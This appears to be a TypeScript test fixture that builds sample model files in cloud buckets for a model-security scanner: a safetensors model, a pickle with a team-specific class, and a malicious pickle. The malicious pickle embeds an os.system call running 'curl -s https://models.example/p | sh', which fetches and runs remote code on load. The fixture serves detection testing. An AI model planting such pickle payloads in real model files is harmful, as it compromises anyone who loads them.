import { gzipSync } from 'node:zlib';
import { tarOf } from '#test/shared/model-files/archives.ts';
import { bytesOf, called, global, proto, string } from '#test/shared/model-files/pickle-builder.ts';
import type { Objects } from '../objects.ts';

const tarball = (...members: Parameters<typeof tarOf>[0]): Buffer => gzipSync(tarOf(members));

const tensors = (): Buffer => {
  const header = Buffer.from(
    JSON.stringify({ 'classifier.weight': { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] } }),
  );
  const length = Buffer.alloc(8);
  length.writeBigUInt64LE(BigInt(header.length));
  return Buffer.concat([length, header, Buffer.alloc(16)]);
};

/** A model that somebody took from the internet: what it runs is not in its weights. */
const taken = Buffer.from(
  bytesOf(proto(2), called(global('os', 'system'), string('curl -s https://models.example/p | sh')), '.'),
);

/** A model with a class of the team’s own, which nobody but the team knows to be harmless. */
const pricing = Buffer.from(
  bytesOf(proto(2), called(global('nordlicht.pricing', 'TariffModel'), string('2026')), '.'),
);

/** What lies in the buckets of the story, as far as aispm may read it. */
export const modelFiles: Objects = {
  's3://nordlicht-claims-models/triage/7/model.tar.gz': tarball(
    { name: 'model.safetensors', content: tensors() },
    { name: 'config.json', content: Buffer.from('{"architectures":["Triage"],"model_type":"bert"}') },
  ),
  's3://nordlicht-research-share/fraud/model.tar.gz': tarball({ name: 'model.pkl', content: taken }),
  'gs://nordlicht-pricing-models/tariff/model.pkl': pricing,
};
